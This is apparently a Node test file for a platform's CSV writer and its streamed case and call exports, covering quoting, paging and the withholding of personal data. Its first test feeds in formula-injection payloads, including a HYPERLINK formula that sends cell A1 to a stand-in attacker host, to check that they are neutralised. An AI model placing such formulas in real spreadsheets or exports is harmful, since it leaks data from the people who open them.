/** The one CSV writer (src/platform/csv.ts) and the two exports that stream through it. */
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { openTestDatabase } from '../helpers/db.ts';
import type { Database } from '../../src/platform/db/client.ts';
import { calls, cases } from '../../src/platform/db/schema.ts';
import { newId } from '../../src/platform/security/ids.ts';
import { csvStream, csvText, neutraliseFormula } from '../../src/platform/csv.ts';
import { EXPORT_PAGE_SIZE, streamQueueCsv } from '../../src/domains/cases/views.ts';
import { CALL_CSV_HEADER, streamCallsCsv } from '../../src/domains/calls/csv.ts';
import { insertReporter, insertUser, TRIAGE_PERMISSIONS } from './cases-fixtures.ts';

let database: Database;
let cleanup: () => Promise<void>;
before(async () => ({ database, cleanup } = await openTestDatabase()));
after(() => cleanup());

/** Every chunk a stream gives, as text. */
async function chunksOf(stream: ReadableStream<Uint8Array>): Promise<string[]> {
  const decoder = new TextDecoder();
  const chunks: string[] = [];
  for await (const chunk of stream) chunks.push(decoder.decode(chunk));
  return chunks;
}

test('CSV text is RFC 4180 with CRLF line ends, and formula-like cells are neutralised', () => {
  assert.equal(csvText([['a', 'b,c', 'say "hi"', 'two\nlines', 'cr\ronly', null, 42]]), 'a,"b,c","say ""hi""","two\nlines","cr\ronly",,42\r\n');
  for (const risky of ['=1+1', '+44', '-3', '@SUM(A1)', '\tx', '\rx']) assert.equal(neutraliseFormula(risky).startsWith(`'${risky[0]}`), true, JSON.stringify(risky));
  assert.equal(neutraliseFormula(-5), "'-5");
  // Leading white space or a line break does not hide a formula from the guard.
  for (const risky of [' =HYPERLINK("http://evil.example/?x="&A1,"Click")', '\n=1+1', '\u00a0=2+2', '  +1', '\ufeff@SUM(A1)']) assert.equal(neutraliseFormula(risky), `'${risky}`, JSON.stringify(risky));
  for (const plain of ['Mill Lane', ' a = b', 'x=1', '']) assert.equal(neutraliseFormula(plain), plain, JSON.stringify(plain));
  assert.equal(neutraliseFormula('a=b'), 'a=b');
  assert.equal(csvText([['=HYPERLINK("http://x")']]), `"'=HYPERLINK(""http://x"")"\r\n`);
});

test('a CSV stream reads its pages only when asked, and closes the pages when the reader goes away', async () => {
  let pagesRead = 0;
  let closed = false;
  async function* pages() {
    try {
      for (let i = 0; i < 100; i++) {
        pagesRead++;
        yield [[`row ${i}`]];
      }
    } finally {
      closed = true;
    }
  }
  const reader = csvStream(['h'], pages()).getReader();
  assert.equal(new TextDecoder().decode((await reader.read()).value), 'h\r\n');
  assert.equal(new TextDecoder().decode((await reader.read()).value), 'row 0\r\n');
  assert.ok(pagesRead <= 2, `read ahead only a little (read ${pagesRead})`);
  await reader.cancel();
  assert.equal(closed, true);
});

test('a large queue export streams in more than one chunk, a page of cases each, with every case once', async () => {
  const total = EXPORT_PAGE_SIZE * 2 + 37;
  const reporterId = await insertReporter({ name: 'Pat Paged', email: 'pat.paged@example.org', phoneE164: '+447700900555' });
  const now = Date.now();
  const rows: (typeof cases.$inferInsert)[] = Array.from({ length: total }, (_, i) => ({
    id: newId(now - i), ref: `HM-S${String(i).padStart(7, '0')}`, status: 'new', statusChangedAt: now - i * 1000, channel: 'web', categoryId: 'noise', priority: 'P4', privacy: 'named',
    description: 'Loud music', postcode: 'HM1 1AA', receivedAt: now - i * 1000, updatedAt: now, reporterId: i % 2 === 0 ? reporterId : null,
  }));
  for (let i = 0; i < rows.length; i += 200) await database.db.insert(cases).values(rows.slice(i, i + 200));
  const officer = await insertUser({}, TRIAGE_PERMISSIONS);

  const chunks = await chunksOf(await streamQueueCsv({ status: 'all' }, 'received_desc', officer));
  assert.ok(chunks.length >= 4, `header and at least three pages as separate chunks (got ${chunks.length})`);
  const lines = chunks.join('').trimEnd().split('\r\n');
  assert.match(lines[0]!, /^reference,received,.*,reporter_name,reporter_email,reporter_phone$/);
  const refs = lines.slice(1).map((l) => l.split(',')[0]!).filter((r) => r.startsWith('HM-S'));
  assert.equal(refs.length, total);
  assert.equal(new Set(refs).size, total);
  assert.ok(lines.some((l) => l.startsWith('HM-S0000000,') && l.endsWith(`,Pat Paged,pat.paged@example.org,'+447700900555`)));
  assert.ok(lines.some((l) => l.startsWith('HM-S0000001,') && l.endsWith(',,,')));

  const plain = (await chunksOf(await streamQueueCsv({ status: 'all' }, 'received_desc', { ...officer, permissions: TRIAGE_PERMISSIONS.filter((p) => p !== 'pii.export') }))).join('');
  assert.doesNotMatch(plain, /Pat Paged|pat\.paged|7700900555|reporter_/);
});

test('a large call export streams in more than one chunk, pages meeting on calls that started at the same moment', async () => {
  const startedAt = Date.UTC(2026, 6, 31, 23, 30);
  const total = 250;
  const rows = Array.from({ length: total }, (_, i) => ({
    id: `call${String(i).padStart(16, '0')}`, handlerId: 'handler-csv', startedAt: startedAt - Math.floor(i / 10) * 60_000, durationS: i, reason: 'silent', outcome: 'silent',
    callerEmail: 'caller@example.org', notes: 'private note', createdAt: startedAt,
  }));
  await database.db.insert(calls).values(rows);
  const chunks = await chunksOf(streamCallsCsv({ reason: 'silent' }, 40));
  assert.ok(chunks.length > 2, `header and several pages (got ${chunks.length})`);
  const lines = chunks.join('').trimEnd().split('\r\n');
  assert.equal(lines[0], CALL_CSV_HEADER.join(','));
  const ids = lines.slice(1).map((l) => l.split(',')[0]!);
  assert.equal(ids.length, total);
  assert.equal(new Set(ids).size, total, 'no call repeated or lost where pages meet');
  assert.equal(lines[1]!.split(',')[2], '2026-08-01', 'the day column is the London day');
  assert.doesNotMatch(chunks.join(''), /caller@example\.org|private note/);
});
